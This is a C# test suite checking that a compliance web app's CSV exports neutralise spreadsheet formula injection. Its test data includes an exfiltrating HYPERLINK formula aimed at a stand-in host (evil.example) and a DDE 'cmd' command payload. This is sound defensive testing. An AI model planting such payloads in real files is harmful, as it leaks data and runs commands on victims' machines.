using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Compliance.Tests.Infrastructure;
using Compliance.Web.Features.Inventory.Import;
using Microsoft.Extensions.DependencyInjection;

namespace Compliance.Tests.Security;

/// <summary>OWASP CSV injection: a value a spreadsheet would run as a formula leaves every export as text.</summary>
public sealed class CsvFormulaInjectionTests : IClassFixture<KestrelAppFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
    private const string FormulaTriggers = "=+-@\t\r";

    private readonly KestrelAppFactory _app;

    public CsvFormulaInjectionTests(KestrelAppFactory app) => _app = app;

    [Fact]
    public async Task A_binding_purpose_posted_as_a_formula_through_the_api_leaves_the_bindings_export_as_text()
    {
        using var pipeline = await _app.CreateHttpClient().AsPipelineAsync();
        var model = (await pipeline.GetFromJsonAsync<JsonElement>("/api/v1/models?limit=1")).GetProperty("items")[0].GetProperty("id").GetInt32();
        var workload = (await pipeline.GetFromJsonAsync<JsonElement>("/api/v1/workloads?limit=1")).GetProperty("items")[0].GetProperty("id").GetInt32();
        var created = await pipeline.PostAsJsonAsync("/api/v1/bindings", new { modelId = model, workloadId = workload, purpose = Hyperlink });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var csv = await ExportAsync("bindings");

        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\"", csv);
        AssertNoCellIsAFormula(csv);
    }

    [Fact]
    public async Task Model_and_workload_fields_imported_as_formulas_leave_the_models_and_workloads_exports_as_text()
    {
        var importer = _app.Services.GetRequiredService<CsvImporter>();
        var models = await importer.ImportAsync(ImportKind.Models, "models.csv", "text/csv", Encoding.UTF8.GetBytes(
            "provider,host_model_id,display_name,version,hosting,region\n" +
            "@SUM(1+1),evil.model-1,\"+cmd|' /C calc'!A0\",-1+1,Self-hosted,\"\tx\"\n"), "officer");
        Assert.True(models.Succeeded, string.Join("; ", models.Errors));
        var workloads = await importer.ImportAsync(ImportKind.Workloads, "workloads.csv", "text/csv", Encoding.UTF8.GetBytes(
            "customer_code,name,impact_level,data_categories,owner,environment\n" +
            "acme,\"=1+2\",IL2,CUI,\"-2+3+cmd|' /C calc'!A0\",\"@evil\"\n"), "officer");
        Assert.True(workloads.Succeeded, string.Join("; ", workloads.Errors));

        var modelsCsv = await ExportAsync("models");
        var workloadsCsv = await ExportAsync("workloads");

        Assert.Contains("\"'@SUM(1+1)\",evil.model-1,\"'+cmd|' /C calc'!A0\",\"'-1+1\"", modelsCsv);
        Assert.Contains("acme,\"'=1+2\",IL2,CUI,\"'-2+3+cmd|' /C calc'!A0\",\"'@evil\"", workloadsCsv);
        AssertNoCellIsAFormula(modelsCsv);
        AssertNoCellIsAFormula(workloadsCsv);
    }

    [Theory]
    [InlineData("=1+2")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@x")]
    [InlineData("\tx")]
    [InlineData("\rx")]
    [InlineData("'=1+2")]
    [InlineData("''@x")]
    [InlineData("'plain")]
    [InlineData("''")]
    [InlineData("'")]
    [InlineData("plain, with \"quotes\"")]
    [InlineData("")]
    public void A_neutralised_cell_reads_back_as_the_value_that_was_written(string value)
    {
        var cell = Csv.Cell(value);
        var read = Assert.Single(Assert.Single(Csv.Parse("a," + cell + "\n")).Fields.Skip(1));
        Assert.Equal(value, Csv.Restore(read));
        Assert.True(read.Length == 0 || !FormulaTriggers.Contains(read[0]), $"'{read}' starts a formula");
    }

    private async Task<string> ExportAsync(string kind)
    {
        using var officer = await BrowserSession.SignInAsync(_app, "officer");
        var response = await officer.Client.GetAsync($"/inventory/export/{kind}.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsStringAsync();
    }

    private static void AssertNoCellIsAFormula(string csv)
    {
        var formulas = Csv.Parse(csv).SelectMany(r => r.Fields.Select(f => (r.Number, f)))
            .Where(c => c.f.Length > 0 && FormulaTriggers.Contains(c.f[0])).ToList();
        Assert.True(formulas.Count == 0, "Formula cells: " + string.Join("; ", formulas.Select(c => $"row {c.Number}: {c.f}")));
    }
}
